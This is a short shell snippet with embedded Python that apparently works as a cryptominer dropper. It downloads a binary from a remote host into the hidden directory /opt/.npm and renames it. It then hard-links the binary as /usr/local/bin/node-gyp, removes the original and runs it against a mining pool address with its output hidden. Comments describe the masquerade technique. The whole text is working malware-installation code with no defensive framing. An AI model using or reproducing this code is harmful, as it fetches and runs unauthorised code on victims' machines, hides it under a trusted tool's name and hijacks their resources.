# downloaded as .part, renamed by the program itself, then hard-linked and run under the third name
#http 203.0.113.62:8012
#pool 198.51.100.93:443:drop
python3 - <<'P'
import os,subprocess,urllib.request
os.makedirs('/opt/.npm'); urllib.request.urlretrieve('http://203.0.113.62:8012/w','/opt/.npm/x.part'); os.rename('/opt/.npm/x.part','/opt/.npm/x'); os.chmod('/opt/.npm/x',0o755)
os.link('/opt/.npm/x','/usr/local/bin/node-gyp'); os.unlink('/opt/.npm/x')
try: subprocess.run(['node-gyp','-o','198.51.100.93:443','-u','x','-R','1'],stdout=subprocess.DEVNULL,timeout=9)
except subprocess.TimeoutExpired: pass
P
